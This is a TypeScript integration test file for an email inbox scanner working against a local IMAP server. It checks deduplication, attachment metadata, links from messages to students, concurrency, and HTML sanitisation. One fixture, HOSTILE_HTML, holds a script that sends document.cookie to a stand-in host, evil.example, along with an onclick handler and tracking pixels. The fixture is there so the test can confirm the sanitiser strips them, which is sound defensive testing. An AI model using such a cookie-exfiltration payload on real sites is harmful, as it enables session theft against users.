/**
 * The inbox against a real IMAP server (issue 13 §1, §3): dovecot on a local port holds messages put
 * in over IMAP; POST /api/emails/scan reads them. Each message is stored once with its raw source,
 * sender, recipients, bodies (HTML sanitised, no remote content), attachments' names and sizes, and the
 * student it comes from; a malformed or oversized one is skipped with its reason; scanning again, the
 * folder read from the start again, and two scans at once (two instances on one database) store
 * nothing twice.
 */
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/server/app';
import { incomingEmails, mailboxState } from '../../src/server/db/schema';
import { parseMessage } from '../../src/server/modules/payment-intake/inbox/parse-message';
import { storeMessage } from '../../src/server/modules/payment-intake/inbox/store-message';
import { createServices } from '../../src/server/trpc/services';
import { signedInAdmin, trpc } from '../factories/classes';
import { createStudent } from '../factories/people';
import { TestClient } from '../setup/http';
import { composeMessage, TestImapServer } from '../setup/imap';
import { createTestApp, TEST_APP_SECRET, type TestApp } from '../setup/test-app';

let imap: TestImapServer;
let t: TestApp;
let admin: Awaited<ReturnType<typeof signedInAdmin>>;
beforeAll(async () => {
  imap = await TestImapServer.start();
  t = await createTestApp({}, { IMAP_URL: imap.url });
  admin = await signedInAdmin(t.app, t.database.db);
});
afterAll(async () => {
  await t?.close();
  await imap?.destroy();
});

const db = () => t.database.db;
const scan = () => admin.browser.post('/api/emails/scan');
const stored = () => db().select().from(incomingEmails).orderBy(incomingEmails.id);
const byMessageId = async (messageId: string) => {
  const [row] = await db().select().from(incomingEmails).where(eq(incomingEmails.messageId, messageId));
  return row!;
};

const HOSTILE_HTML =
  '<p onclick="steal()">Your payment of <b>$40.00</b> was received.</p>' +
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
  '<img src="https://tracker.example/open.gif?id=42" width="1" height="1">' +
  '<div style="background:url(https://tracker.example/bg.png)">Thanks</div>' +
  '<a href="https://bank.example/deposit">Deposit</a>';

describe('a scan of the mailbox', () => {
  const sources: Record<string, Buffer> = {};
  const uids: Record<string, number> = {};
  let payer: Awaited<ReturnType<typeof createStudent>>;

  beforeAll(async () => {
    payer = await createStudent(db(), {
      name: 'Pat Payer',
      email: 'pat@student.test',
      paymentEmail: 'Pat.Family@Bank.test',
    });
    sources.plain = await composeMessage({
      from: '"Quinn Stranger" <quinn@elsewhere.test>',
      subject: 'Do you have classes on Sunday?',
      text: 'Hello,\n\nDo you have   classes on Sunday mornings?\n\nQuinn',
      messageId: '<plain-1@elsewhere.test>',
    });
    sources.html = await composeMessage({
      from: 'Notify Bank <notify@bank.test>',
      subject: 'Payment received',
      html: HOSTILE_HTML,
      messageId: '<html-1@bank.test>',
    });
    sources.attachments = await composeMessage({
      from: 'accountant@books.test',
      subject: 'Receipts for October',
      text: 'Both receipts attached.',
      messageId: '<attach-1@books.test>',
      attachments: [
        { filename: 'receipt-october.pdf', content: Buffer.alloc(3000, 7), contentType: 'application/pdf' },
        { filename: 'notes.txt', content: 'paid in full\n' },
      ],
    });
    sources.malformed = Buffer.from([0x00, 0x01, 0xfe, 0xff, 0x0d, 0x0a, 0x0d, 0x0a, 0x42, 0x00]);
    sources.oversized = await composeMessage({
      from: 'huge@elsewhere.test',
      subject: 'Holiday photos',
      text: 'Photos attached.',
      messageId: '<huge-1@elsewhere.test>',
      attachments: [{ filename: 'photos.bin', content: Buffer.alloc(8 * 1024 * 1024, 1) }],
    });
    sources.student = await composeMessage({
      from: '"Pat Family" <pat.family@bank.TEST>',
      subject: 'October classes',
      text: 'Sending the October payment today.',
      messageId: '<student-1@bank.test>',
    });
    sources.noMessageId = await composeMessage({
      from: 'old-client@elsewhere.test',
      subject: 'No id on this one',
      text: 'My mail program writes no Message-ID.',
      messageId: false,
    });
    for (const [name, source] of Object.entries(sources)) uids[name] = await imap.append(source);
  });

  it('stores every readable message once and skips the malformed and the oversized one with the reason', async () => {
    const res = await scan();
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.newPayments).toBe(0);
    expect(res.body.emailsProcessed).toBe(5);
    expect(res.body.skipped).toEqual([
      { uid: uids.malformed, reason: 'Malformed message: no sender address' },
      {
        uid: uids.oversized,
        reason: expect.stringMatching(/^Too large: 1\d\.\d MB \(the limit is 10 MB\)$/),
      },
    ]);
    const rows = await stored();
    expect(rows).toHaveLength(5);
    expect(new Set(rows.map((r) => r.messageId)).size).toBe(5);
    // The mailbox is only read: no message was flagged (not even \Seen), none moved or deleted.
    // (\Recent is the server's own session flag, not something a client sets.)
    const flags = await imap.flags();
    expect([...flags.keys()].sort((a, b) => a - b)).toEqual(Object.values(uids).sort((a, b) => a - b));
    for (const f of flags.values()) expect(f.filter((flag) => flag !== '\\Recent')).toEqual([]);
    // Kept with the mailbox's status too, newest first, for a skip made by the poll nobody watched.
    const status = await trpc(admin.browser, 'settings.mailStatus', undefined, 'query');
    expect(status.data.incoming.recentSkips).toEqual([
      { uid: uids.oversized, reason: res.body.skipped[1].reason, at: expect.any(String) },
      { uid: uids.malformed, reason: 'Malformed message: no sender address', at: expect.any(String) },
    ]);
  });

  it('keeps the raw source byte for byte (for DKIM), and the sender, recipients, subject and text', async () => {
    const plain = await byMessageId('<plain-1@elsewhere.test>');
    expect(Buffer.isBuffer(plain.rawSource)).toBe(true);
    expect(plain.rawSource!.equals(sources.plain!)).toBe(true);
    expect(plain).toMatchObject({
      fromEmail: 'quinn@elsewhere.test',
      fromName: 'Quinn Stranger',
      toEmail: 'studio@studio.test',
      subject: 'Do you have classes on Sunday?',
      bodyText: 'Hello,\n\nDo you have   classes on Sunday mornings?\n\nQuinn',
      bodyHtml: null,
      attachments: [],
      isRead: false,
      isArchived: false,
      studentId: null,
    });
    const html = await byMessageId('<html-1@bank.test>');
    expect(html.rawSource!.equals(sources.html!)).toBe(true);
  });

  it('sanitises HTML: no script, no handler, no remote image or style; text made from it; links kept', async () => {
    const row = await byMessageId('<html-1@bank.test>');
    const res = await admin.browser.get(`/api/emails/incoming/${row.id}`);
    expect(res.status).toBe(200);
    const body: string = res.body.bodyHtml;
    for (const html of [body, row.bodyHtml!]) {
      expect(html).toContain('Your payment of <b>$40.00</b> was received.');
      expect(html).toContain('<a href="https://bank.example/deposit">Deposit</a>');
      expect(html).not.toMatch(/script|onclick|tracker\.example|url\(|<img/i);
    }
    expect(res.body.body).toContain('Your payment of $40.00 was received.');
    expect(res.body.preview).toBe(res.body.body.replace(/\s+/g, ' ').trim().slice(0, 150));
  });

  it("lists the attachments' names and sizes", async () => {
    const row = await byMessageId('<attach-1@books.test>');
    expect(row.attachments).toEqual([
      { filename: 'receipt-october.pdf', size: 3000 },
      { filename: 'notes.txt', size: 13 },
    ]);
    expect(row.bodyText).toBe('Both receipts attached.');
  });

  it("links the student whose payment e-mail sent it (any letter case); it shows on the profile's Emails tab", async () => {
    const row = await byMessageId('<student-1@bank.test>');
    expect(row.studentId).toBe(payer.id);
    const detail = await admin.browser.get(`/api/emails/incoming/${row.id}`);
    expect(detail.body).toMatchObject({
      isFromStudent: true,
      studentId: payer.id,
      studentName: 'Pat Payer',
      from: 'pat.family@bank.test',
      fromName: 'Pat Family',
    });
    const tab = await admin.browser.get(`/api/emails/student/${payer.id}`);
    expect(tab.status).toBe(200);
    expect(tab.body).toEqual([
      expect.objectContaining({ direction: 'incoming', id: row.id, subject: 'October classes' }),
    ]);
  });

  it('gives a message without a Message-ID a stable id made from its bytes', async () => {
    const rows = await db()
      .select()
      .from(incomingEmails)
      .where(eq(incomingEmails.subject, 'No id on this one'));
    expect(rows).toHaveLength(1);
    expect(rows[0]!.messageId).toMatch(/^<sha256\.[0-9a-f]{64}@studio\.invalid>$/);
    const again = await parseMessage(sources.noMessageId!, null);
    expect(again.ok && again.message.messageId).toBe(rows[0]!.messageId);
  });

  it('scanned again: nothing new; read from the start again (new UIDVALIDITY): still nothing stored twice', async () => {
    const before = (await stored()).length;
    const again = await scan();
    expect(again.body).toEqual({ newPayments: 0, emailsProcessed: 0, skipped: [] });
    await db().update(mailboxState).set({ uidValidity: 1 });
    const fromStart = await scan();
    expect(fromStart.status).toBe(200);
    expect(fromStart.body.emailsProcessed).toBe(0);
    expect(fromStart.body.skipped.map((s: { uid: number }) => s.uid)).toEqual([
      uids.malformed,
      uids.oversized,
    ]);
    expect((await stored()).length).toBe(before);
  });
});

describe('a different message under a stored Message-ID', () => {
  it('is not stored, and the scan says so (a forgery sent ahead of the real one is not silent)', async () => {
    const original = await byMessageId('<html-1@bank.test>');
    const forged = await composeMessage({
      from: 'Notify Bank <notify@bank.test>',
      subject: 'Payment received',
      text: 'Something else entirely.',
      messageId: '<html-1@bank.test>',
    });
    const uid = await imap.append(forged);
    const res = await scan();
    expect(res.body).toEqual({
      newPayments: 0,
      emailsProcessed: 0,
      skipped: [
        {
          uid,
          reason:
            'Not stored: a different message with the same Message-ID <html-1@bank.test> is already stored',
        },
      ],
    });
    expect((await byMessageId('<html-1@bank.test>')).rawSource!.equals(original.rawSource!)).toBe(true);
  });
});

describe('the student link', () => {
  it('none when two students share the address (a parent of two), nor for an archived student', async () => {
    await createStudent(db(), { name: 'Ana One', secondaryContactEmail: 'shared.parent@family.test' });
    await createStudent(db(), { name: 'Ben Two', secondaryContactEmail: 'Shared.Parent@family.test' });
    await createStudent(db(), { name: 'Gone', email: 'gone@student.test', deletedAt: new Date() });
    // The student's own address wins over another student's payment e-mail.
    const own = await createStudent(db(), { name: 'Own Address', email: 'own@student.test' });
    await createStudent(db(), { name: 'Pays For Them', paymentEmail: 'own@student.test' });
    for (const [i, from] of [
      'shared.parent@family.test',
      'gone@student.test',
      'own@student.test',
    ].entries()) {
      await imap.append(
        await composeMessage({ from, subject: `Link ${i}`, text: 'x', messageId: `<link-${i}@test>` }),
      );
    }
    expect((await scan()).body.emailsProcessed).toBe(3);
    expect((await byMessageId('<link-0@test>')).studentId).toBeNull();
    expect((await byMessageId('<link-1@test>')).studentId).toBeNull();
    expect((await byMessageId('<link-2@test>')).studentId).toBe(own.id);
  });
});

describe('two scans at once', () => {
  it('two instances on one database, and two requests on one instance: each message is stored once', async () => {
    const subjects = Array.from({ length: 6 }, (_, i) => `Concurrent ${i}`);
    for (const [i, subject] of subjects.entries()) {
      await imap.append(
        await composeMessage({
          from: `sender${i}@elsewhere.test`,
          subject,
          text: `Message ${i}`,
          messageId: `<concurrent-${i}@elsewhere.test>`,
        }),
      );
    }
    // A second app instance on the same database (as behind a load balancer), same admin session.
    const other = await buildApp({
      services: createServices(t.config, t.database, TEST_APP_SECRET),
      serveClient: false,
    });
    try {
      const otherBrowser = new TestClient(other);
      for (const [k, v] of admin.browser.cookies) otherBrowser.cookies.set(k, v);
      const answers = await Promise.all([scan(), otherBrowser.post('/api/emails/scan'), scan()]);
      for (const a of answers) expect(a.status, JSON.stringify(a.body)).toBe(200);
      expect(answers.reduce((n, a) => n + a.body.emailsProcessed, 0)).toBe(subjects.length);
      const rows = await db()
        .select({ n: sql<number>`count(*)::int` })
        .from(incomingEmails)
        .where(sql`${incomingEmails.subject} like 'Concurrent %'`);
      expect(rows[0]!.n).toBe(subjects.length);
    } finally {
      await other.close();
    }
  });

  it('storing the same message twice at the same moment (no scan lease involved) keeps one row', async () => {
    const source = await composeMessage({
      from: 'twice@elsewhere.test',
      subject: 'Stored twice',
      text: 'Once only.',
      messageId: '<twice-1@elsewhere.test>',
    });
    const parsed = await parseMessage(source, new Date());
    if (!parsed.ok) throw new Error(parsed.reason);
    const results = await Promise.all([
      storeMessage(db(), parsed.message),
      storeMessage(db(), parsed.message),
    ]);
    expect(results).toContainEqual({ already: 'same' });
    expect(results.filter((r) => 'stored' in r)).toHaveLength(1);
    expect(
      await db()
        .select()
        .from(incomingEmails)
        .where(eq(incomingEmails.messageId, '<twice-1@elsewhere.test>')),
    ).toHaveLength(1);
  });
});
